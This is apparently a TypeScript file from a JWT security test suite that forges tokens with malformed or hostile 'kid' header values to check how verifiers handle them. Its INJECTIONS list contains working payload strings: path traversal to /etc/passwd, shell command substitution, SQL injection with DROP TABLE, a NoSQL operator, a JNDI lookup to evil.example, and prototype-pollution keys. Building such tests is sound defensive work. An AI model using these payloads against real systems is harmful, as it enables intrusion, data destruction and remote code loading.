import type { Attack } from '../attack.ts';
import { forgeToken } from '../token-kinds.ts';

const NOT_A_KID = [undefined, null, true, 0, 1, 1.5, [], {}, '', { kid: 'x' }, [['x']]];
const INVALID = [
  'x'.repeat(129),
  'with space',
  'line\nbreak',
  'nul\0',
  'tab\t',
  '\u00e9',
  '\u202e',
  '\ud83d\udd11',
  ' ',
];
/** Values that an implementation could use as a path, a query, a command or a property name. */
const INJECTIONS = [
  '../../../../etc/passwd',
  '/dev/null',
  'C:\\key.pem',
  'file:///etc/passwd',
  '..%2f..%2fkeys',
  '|whoami',
  '$(whoami)',
  "'/**/OR/**/1=1--",
  "x';DROP/**/TABLE/**/keys;--",
  '{"$ne":null}',
  '*',
  '%00',
  '#{jndi:ldap://evil.example/a}',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'undefined',
  'null',
  'true',
  '0',
  'NaN',
  'keys',
  'kid',
];

export const keyIds: readonly Attack[] = [
  {
    name: 'a kid that is missing or not a string',
    tokens: (kind, { now }) => NOT_A_KID.map((kid) => forgeToken(kind, now, { header: { kid } })),
  },
  {
    name: 'a kid that is an array or object with the right value',
    tokens: (kind, { now }) =>
      [[kind.key.kid], { 0: kind.key.kid, length: 1 }].map((kid) =>
        forgeToken(kind, now, { header: { kid } }),
      ),
  },
  {
    name: 'a kid that is too long, or has white space or non-ASCII',
    tokens: (kind, { now }) =>
      [...INVALID, `${kind.key.kid} `, `${kind.key.kid}\0`, `${kind.key.kid}\n`].map((kid) =>
        forgeToken(kind, now, { header: { kid } }),
      ),
  },
  {
    name: 'a kid of 10 KB, or of 4,000 characters',
    tokens: (kind, { now }) =>
      ['k'.repeat(10_240), 'k'.repeat(4_000)].map((kid) => forgeToken(kind, now, { header: { kid } })),
  },
  {
    name: 'kid injection: path traversal, SQL, shell, Object.prototype',
    needsKey: true,
    tokens: (kind, { now }) => INJECTIONS.map((kid) => forgeToken(kind, now, { header: { kid } })),
  },
  {
    name: 'a kid that differs from the right one by a character or in case',
    needsKey: true,
    tokens: (kind, { now }) => {
      const { kid } = kind.key;
      const swapped = kid.replace(/[a-z]/, (letter) => letter.toUpperCase());
      return [swapped, kid.slice(1), kid.slice(0, -1), `${kid}x`, `x${kid}`].map((other) =>
        forgeToken(kind, now, { header: { kid: other } }),
      );
    },
  },
];
